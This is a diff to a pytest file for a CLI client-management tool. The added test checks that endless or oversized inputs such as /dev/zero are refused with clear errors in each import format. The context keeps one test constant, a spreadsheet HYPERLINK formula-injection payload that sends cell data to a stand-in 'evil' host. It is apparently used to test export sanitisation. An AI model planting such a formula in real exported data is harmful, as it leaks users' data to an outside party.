@@ -16,9 +16,11 @@ import sys
 import threading
 from collections.abc import Iterator
 from pathlib import Path
+from unittest import mock
 
 import pytest
 
+from bapp_cli.services.transfer import formats
 from tests.conftest import REPO, Bapp
 
 EVIL = '=HYPERLINK("http://evil/?"&A1,"Click")'
@@ -355,3 +357,29 @@ def test_an_instant_reads_the_same_in_every_output(bapp: Bapp, tmp_path: Path) -
     exported_csv = next(csv.DictReader(io.StringIO(bapp("export", "clients", "--format", "csv").stdout)))
     assert exported == listed == as_csv == exported_csv["created_at"]
     assert exported.endswith("Z") and "+" not in exported
+
+
+# -- the one input reader: endless or odd inputs --------------------------------------------------------
+
+
+def test_endless_or_odd_inputs_are_refused_not_read_forever(bapp: Bapp, tmp_path: Path) -> None:
+    reasons = {
+        "csv": "line 1: a line longer than 1048576 bytes",
+        "tsv": "line 1: a line longer than 1048576 bytes",
+        "jsonl": "line 1: a line longer than 67108864 bytes",
+        "json": "line 1: malformed JSON: expected an array of objects or an object, found '\\x00'",
+        "toml": "a TOML document larger than 64 MB",
+    }
+    for fmt, reason in reasons.items():
+        result = bapp("import", "clients", "/dev/zero", "--input-format", fmt)
+        assert result.exit_code == 6 and result.stderr.startswith(f"Error: {reason}"), (fmt, result.stderr)
+    endless_value = tmp_path / "endless.json"
+    endless_value.write_text('[{"email": "' + "a" * (4 << 20))
+    with mock.patch.object(formats, "MAX_VALUE_BYTES", 1 << 20):  # the real bound is 64 MB
+        result = bapp("import", "clients", str(endless_value))
+    assert result.exit_code == 6 and "line 1: a JSON value longer than 1048576 bytes" in result.stderr
+    listing = bapp("calendly", "sync", "--from-file", "/dev/zero")
+    assert listing.exit_code == 6 and "--from-file: cannot read /dev/zero: larger than 256 MB" in listing.stderr
+    folder = bapp("calendly", "sync", "--from-file", str(tmp_path))
+    assert folder.exit_code == 6 and f"--from-file: cannot read {tmp_path}: Is a directory" in folder.stderr
+    assert clients_in(bapp) == []
